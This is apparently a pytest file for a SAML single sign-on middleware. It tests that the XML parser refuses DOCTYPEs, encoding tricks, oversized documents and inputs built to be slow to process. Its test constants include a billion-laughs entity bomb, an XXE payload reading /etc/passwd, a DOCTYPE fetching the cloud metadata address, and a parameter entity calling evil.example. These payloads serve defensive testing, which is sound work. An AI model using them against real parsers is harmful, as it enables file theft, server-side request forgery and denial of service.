"""A document from outside is read in bounded time, or refused: nobody had to sign it.

Security rule 52.
"""

from __future__ import annotations

import time
from collections.abc import Callable

import pytest

from pwless_middleware.features.sso.faults import SSOFault
from pwless_middleware.features.sso.saml.certificates import read_certificates
from pwless_middleware.features.sso.saml.documents import parse_document, text_of
from pwless_middleware.features.sso.saml.responses import decode_response, verify_response
from tests.identity_providers.saml import NOW, SERVICE, SAMLProvider

IDP = SAMLProvider()


def fault_of(data: bytes) -> str:
    with pytest.raises(SSOFault) as caught:
        parse_document(data, "response")
    return caught.value.code


BILLION_LAUGHS = (
    b'<!DOCTYPE a [<!ENTITY x0 "lol">'
    + b"".join(b'<!ENTITY x%d "%s">' % (n + 1, b"&x%d;" % n * 10) for n in range(9))
    + b"]><a>&x9;</a>"
)
ENTITY_FILE = b'<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'
ENTITY_URL = b'<!DOCTYPE a SYSTEM "http://169.254.169.254/latest"><a/>'
PARAMETER_ENTITY = b'<!DOCTYPE a [<!ENTITY % p SYSTEM "http://evil.example/x"> %p;]><a/>'
NO_ENTITY = b"<!DOCTYPE a><a/>"


@pytest.mark.parametrize(
    "data",
    [BILLION_LAUGHS, ENTITY_FILE, ENTITY_URL, PARAMETER_ENTITY, NO_ENTITY, b"\n <!DOCTYPE a><a/>"],
    ids=["billion laughs", "file", "url", "parameter", "no entity", "behind space"],
)
def test_a_doctype_is_refused_before_it_is_parsed(data: bytes) -> None:
    assert fault_of(data) == "response_doctype"


@pytest.mark.parametrize("encoding", ["utf-16", "utf-16-le", "utf-32", "utf-7"])
def test_no_encoding_hides_a_doctype(encoding: str) -> None:
    text = f'<?xml version="1.0" encoding="{encoding}"?>' + NO_ENTITY.decode()
    data = text.encode(encoding)
    if encoding == "utf-7":
        data = data.replace(b"<!DOCTYPE", b"+ADwAIQ-DOCTYPE")
    assert fault_of(data) == "response_malformed"


def test_a_declaration_that_names_another_encoding_changes_nothing() -> None:
    data = '<?xml version="1.0" encoding="iso-8859-1"?><a>Zoë</a>'.encode()
    assert text_of(parse_document(data, "response")) == "Zoë"
    assert fault_of('<?xml version="1.0" encoding="iso-8859-1"?><a>Zoë</a>'.encode("latin-1")) == (
        "response_malformed"
    )


def test_an_entity_that_was_never_declared_is_refused() -> None:
    assert fault_of(b"<a>&x;</a>") == "response_malformed"


@pytest.mark.parametrize(
    "data", [b"", b" ", b"<a>", b"<a></b>", b"a", b"<a/><b/>", b"\xff\xfe", b"<a>\0</a>", b"<a:b/>"]
)
def test_what_is_no_xml_has_its_sentence(data: bytes) -> None:
    assert fault_of(data) == "response_malformed"


def test_a_document_of_256_kib_is_read_and_a_larger_one_is_not() -> None:
    whole = b"<a>" + b"x" * (262_144 - 7) + b"</a>"
    assert len(text_of(parse_document(whole, "response"))) == 262_137
    assert fault_of(whole.replace(b"<a>", b"<a> ")) == "response_too_large"


def test_nesting_is_bounded() -> None:
    assert fault_of(b"<a>" * 3000 + b"</a>" * 3000) == "response_malformed"


HOSTILE = {
    "elements": b"<a/>" * 13_000,
    "attributes": b"<a " + b" ".join(b'a%d="1"' % n for n in range(19_000)) + b"/>",
    "namespaces": b"<a " + b" ".join(b'xmlns:n%d="u"' % n for n in range(4000)) + b"/>" * 1,
    "nested namespaces": (
        b"".join(b"<a xmlns:n%d='u'>" % n for n in range(200)) + b"<a/>" * 7000 + b"</a>" * 200
    ),
    "comments": b"<!---->" * 13_000,
}


@pytest.mark.parametrize("case", HOSTILE)
def test_more_than_any_real_document_has_is_refused(case: str) -> None:
    assert fault_of(b"<r>" + HOSTILE[case] + b"</r>") == "response_too_complex"


DEAREST = {
    "attributes": b"<a b='1' c='2' d='3'/>" * 7900,
    "depth": (b"<a b='1' c='2'>" * 240 + b"</a>" * 240) * 16,
    "namespaces": b"<n:a xmlns:n='u'/>" * 7900,
    "characters": b"<a>" + "é".encode() * 120_000 + b"</a>",
    "namespaces in scope": (
        b"<a "
        + b" ".join(b'xmlns:n%d="u"' % n for n in range(28))
        + b">"
        + b"<a/>" * 7900
        + b"</a>"
    ),
}


@pytest.mark.parametrize("case", DEAREST)
def test_the_dearest_that_is_read_is_refused_soon(case: str) -> None:
    """Some 50 ms, on a machine that has nothing else to do."""
    mark = b"<saml:AttributeStatement>"
    xml = IDP.answer().replace(mark, DEAREST[case] + mark)
    began = time.process_time()
    with pytest.raises(SSOFault) as caught:
        verify_response(xml, IDP.settings(), SERVICE, request_id="_request", now=NOW)
    assert caught.value.code == "signature_wrong"
    assert time.process_time() - began < 1


def test_text_is_whole_around_comments_and_none_around_elements() -> None:
    root = parse_document(b"<r><a> x<!--y-->z </a><b>x<c/>y</b><d/></r>", "response")
    assert [text_of(child) for child in root] == ["xz", "", ""]
    assert text_of(None) == ""


@pytest.mark.parametrize(
    ("read", "text", "fault"),
    [
        (decode_response, "A" + " " * 200_000 + "!", "response_malformed"),
        (decode_response, " " * 350_000, "response_missing"),
        (read_certificates, "-----BEGIN CERTIFICATE-----" * 2400, "certificate_malformed"),
        (read_certificates, "-----BEGIN " + "A " * 30_000, "certificate_malformed"),
    ],
    ids=["white space", "nothing else", "beginnings", "label"],
)
def test_a_text_is_read_in_time_however_it_is_made(
    read: Callable[[str], object], text: str, fault: str
) -> None:
    """Nobody needs a signature to have it read; a process was busy with one for minutes."""
    began = time.process_time()
    with pytest.raises(SSOFault) as caught:
        read(text)
    assert caught.value.code == fault
    assert time.process_time() - began < 1


def test_a_signature_of_white_space_is_read_in_time() -> None:
    signed = IDP.answer()
    value = b"<ds:SignatureValue>"
    assert value in signed
    padded = signed.replace(value, value + b"A" + b" " * 100_000 + b"!", 1)
    began = time.process_time()
    with pytest.raises(SSOFault):
        verify_response(padded, IDP.settings(), SERVICE, request_id="_request", now=NOW)
    assert time.process_time() - began < 1
